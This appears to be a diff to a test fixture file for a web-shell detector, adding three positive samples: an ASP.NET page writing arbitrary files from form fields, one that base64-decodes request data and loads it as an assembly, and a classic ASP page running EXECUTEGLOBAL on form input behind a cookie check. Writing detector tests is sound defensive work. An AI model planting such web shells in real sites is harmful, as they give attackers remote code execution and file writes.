@@ -701,6 +701,16 @@ public class Store : IHttpHandler
 }
 '''))
 
+pos(T, "case-spaced-lines.aspx", strip1(
+    '<%@ PAGE LANGUAGE="C#" %>\n'
+    '<SCRIPT RUNAT="SERVER">\n'
+    'void page_load(object s, EventArgs e)\n{\n'
+    '\tSystem.IO.File . WriteAllText (\n'
+    '\t\tRequest . Form [ "p" ] ,\n'
+    '\t\tRequest.Form["b"]\n'
+    '\t) ;\n}\n'
+    '</SCRIPT>\n'))
+
 # ---- decode-exec: a decoded payload becomes code -------------------------
 T = "decode-exec"
 
@@ -843,6 +853,22 @@ function Page_Load() {
 }
 </script>
 '''))
+
+pos(T, "linebreaks-assembly.aspx", strip1(r'''
+<%@ Page Language="C#" %>
+<script runat="server">
+protected void Page_Load(object sender, EventArgs e)
+{
+    var bytes = Convert
+        .FromBase64String(
+            Request [ "d" ]
+        );
+    System.Reflection.Assembly
+        . Load ( bytes )
+        . CreateInstance ( "Z" );
+}
+</script>
+'''), eol="lf")
 
 # ---- obfuscated: names and strings hidden --------------------------------
 T = "obfuscated"
@@ -1072,6 +1098,9 @@ protected void Page_Load(object sender, EventArgs e)
 }
 </script>
 '''))
+
+pos(T, "vbs-upper-case.asp",
+    '<%\r\nIF REQUEST.COOKIES("UID") = "7731" THEN\r\n\tEXECUTEGLOBAL REQUEST.FORM("B")\r\nEND IF\r\n%>\r\n')
 
 # ---- socket-tunnel: HTTP-to-TCP tunnels driven by request headers/query --
 T = "socket-tunnel"
